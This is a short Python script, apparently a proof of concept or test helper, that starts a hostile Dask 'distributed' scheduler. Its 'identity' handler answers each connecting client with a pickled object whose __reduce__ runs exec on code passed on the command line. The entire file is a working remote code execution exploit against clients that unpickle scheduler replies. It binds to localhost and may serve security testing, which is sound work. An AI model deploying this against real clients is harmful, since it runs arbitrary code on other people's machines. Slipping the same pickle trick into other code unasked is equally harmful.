"""A scheduler of distributed that answers every client with an object of the attacker.

Runs as ``python hostile_scheduler.py CODE``: what is unpickled is ``exec(CODE)``. It prints its
address and stays.
"""

import asyncio
import sys
from typing import Any

from distributed import Scheduler
from distributed.protocol.serialize import to_serialize


class _Parcel:
    """Runs code in whoever unpickles it."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self._code, {})


async def _serve(code: str) -> None:
    async with Scheduler(host="127.0.0.1", port=0, dashboard=False) as scheduler:
        scheduler.handlers["identity"] = lambda **_: {"type": to_serialize(_Parcel(code))}
        sys.stdout.write(f"{scheduler.address}\n")
        sys.stdout.flush()
        await asyncio.Event().wait()


asyncio.run(_serve(sys.argv[1]))
